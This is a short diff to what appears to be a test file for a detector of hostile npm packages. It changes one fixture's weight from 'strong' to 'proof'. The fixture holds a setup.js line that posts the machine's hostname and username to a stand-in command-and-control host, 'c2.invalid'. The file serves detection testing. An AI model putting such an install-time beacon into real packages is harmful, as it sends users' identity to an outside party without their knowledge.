@@ -11,7 +11,7 @@ examine(sendsSystemIdentity, {
         'package.json': hook,
         'setup.js': `const os = require('os'); const r = require('https').request({ hostname: 'c2.invalid', method: 'POST' }); r.write(JSON.stringify({ h: os.hostname(), u: os.userInfo().username })); r.end()`,
       },
-      weight: 'strong',
+      weight: 'proof',
       says: ['os.hostname', 'c2.invalid'],
     },
     {
